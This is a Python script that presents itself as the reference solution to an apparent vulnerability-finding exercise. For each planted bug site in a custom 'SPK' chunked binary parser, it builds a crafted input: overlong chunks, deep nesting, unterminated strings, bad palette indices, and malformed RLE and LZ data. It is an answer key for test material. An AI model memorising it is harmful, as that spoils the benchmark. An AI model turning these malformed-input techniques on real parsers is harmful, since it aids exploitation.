"""Reference solution: an SPK writer plus one crafted input per bug site. planted.json says
which sites are flawed in this build (the author's knowledge; a human finds them by review) and
under which FUNCTION.KIND name each proof is filed. Writes proofs/*.hex in the working
directory."""

import json
import sys
import zlib
from pathlib import Path


def le(n, width):
    return n.to_bytes(width, "little")


def chunk(kind, payload):
    return kind + le(len(payload), 4) + payload + le(zlib.crc32(kind + payload), 4)


def bundle(*chunks, raw_tail=b""):
    body = b"".join(chunks) + raw_tail
    head = b"SPK1" + bytes([1, 0]) + le(len(chunks), 2) + le(16 + len(body), 4)
    return head + le(zlib.crc32(head), 4) + body


def strs(*strings):
    blob, offsets = b"", []
    for s in strings:
        offsets.append(len(blob))
        blob += s + b"\0"
    return chunk(b"STRS", le(len(strings), 2) + b"".join(le(o, 2) for o in offsets) + blob)


def pixl(width, height, bpp, comp, data, name=0):
    return chunk(b"PIXL", le(width, 2) + le(height, 2) + bytes([bpp, comp]) + le(name, 2) + data)


NAMED = strs(b"")  # one empty name: safe even where copying strings is flawed


def blob(blob_id, flags, data, good=True):
    crc = zlib.crc32(data) ^ (0 if good else 1)
    return chunk(b"BLOB", bytes([blob_id, flags]) + le(crc, 4) + data)


def unterminated_strs_last():
    for pad in range(256):
        payload = le(1, 2) + le(0, 2) + b"abc" + bytes([65 + pad % 26])
        c = chunk(b"STRS", payload)
        if 0 not in c[-4:]:
            return bundle(c)
    raise RuntimeError("no zero-free checksum found")


def nested(levels):
    inner = b""
    for _ in range(levels):
        inner = chunk(b"NEST", inner)
    return bundle(inner)


PROOFS = {
    "chunk_bounds": lambda: bundle(raw_tail=b"INDX" + le(4, 4) + b"\x04\x00xy"),
    "nest_depth": lambda: nested(450),
    "meta_table": lambda: bundle(chunk(b"META", b"\x00")),
    "meta_value": lambda: bundle(chunk(b"META", b"\x01\x01a" + le(300, 2) + b"v" * 300)),
    "strs_scan": unterminated_strs_last,
    "strs_copy": lambda: bundle(strs(b"abc")),
    "strtab_index": lambda: bundle(pixl(1, 1, 1, 0, b"\x00")),
    "palette_count": lambda: bundle(chunk(b"PALT", b"\x10abc")),
    "palette_index": lambda: bundle(NAMED, chunk(b"PALT", b"\x02" + b"\x00" * 6), pixl(1, 1, 1, 0, b"\xff")),
    "pixel_size": lambda: bundle(NAMED, pixl(256, 257, 1, 0, b"\x11" * (256 * 257))),
    "pixel_alloc": lambda: bundle(NAMED, pixl(4, 4, 1, 1, b"\x00\x07")),
    "rle_repeat": lambda: bundle(NAMED, pixl(16, 16, 1, 1, b"\x7f" + b"\x01" * 128 + b"\xff\x41")),
    "lz_match:distance": lambda: bundle(NAMED, pixl(4, 1, 1, 2, b"\x80" + le(1, 2))),
    "lz_match:length": lambda: bundle(NAMED, pixl(4, 1, 1, 2, b"\x00A\xff" + le(1, 2))),
    "blob_check": lambda: bundle(blob(1, 0, b"hello", good=False)),
    "transient_release": lambda: bundle(chunk(b"NEST", blob(1, 1, b"hello")), chunk(b"LINK", b"\x01" + le(0, 2) + le(3, 2))),
    "link_range": lambda: bundle(blob(1, 0, b"abc"), chunk(b"LINK", b"\x01" + le(0, 2) + le(100, 2))),
    "index_progress": lambda: bundle(chunk(b"INDX", b"\x00\x00")),
}


def main(planted_path):
    Path("proofs").mkdir(exist_ok=True)
    for item in json.loads(Path(planted_path).read_text()):
        key = item["site"] + (":" + item["variant"] if item["site"] == "lz_match" else "")
        data = PROOFS[key]()
        Path("proofs", f"{item['function']}.{item['kind']}.hex").write_text(data.hex() + "\n")


if __name__ == "__main__":
    main(sys.argv[1])
